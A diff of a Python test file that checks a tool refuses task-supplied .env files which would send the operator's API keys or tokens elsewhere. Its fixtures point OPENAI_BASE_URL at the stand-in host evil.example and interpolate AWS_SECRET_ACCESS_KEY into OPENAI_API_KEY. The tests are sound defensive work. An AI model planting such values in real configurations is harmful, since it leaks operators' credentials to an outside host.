@@ -173,10 +173,19 @@ def test_what_inspect_and_its_providers_read_may_come_from_a_file(
 def test_an_address_from_a_file_gets_no_key_of_the_environment(
     here: Path, monkeypatch: pytest.MonkeyPatch
 ) -> None:
-    """A task's file would have the operator's key sent to where it likes."""
-    monkeypatch.setenv("OPENAI_API_KEY", "of-the-operator")
-    (here / ".env").write_text("OPENAI_BASE_URL=http://evil.example/v1\n")
-    refused(here, naming="OPENAI_BASE_URL.*OPENAI_API_KEY")
+    """A task's file would have the operator's key sent to where it likes, or any other secret as a
+    key of its own."""
+    address = "OPENAI_BASE_URL=http://evil.example/v1\n"
+    for name in ("OPENAI_API_KEY", "HF_TOKEN"):
+        with monkeypatch.context() as only:
+            only.setenv(name, "of-the-operator")
+            (here / ".env").write_text(address)
+            refused(here, naming=f"OPENAI_BASE_URL.*{name}")
+    monkeypatch.setenv("AWS_SECRET_ACCESS_KEY", "of-the-operator")
+    for quote in ("", "'", '"'):
+        secret = f"OPENAI_API_KEY={quote}${{AWS_SECRET_ACCESS_KEY}}{quote}\n"
+        (here / ".env").write_text(address + secret)
+        refused(here, naming="OPENAI_API_KEY of this file")
 
 
 @pytest.mark.parametrize("kind", ["pipe", "large", "latin", "bom"])
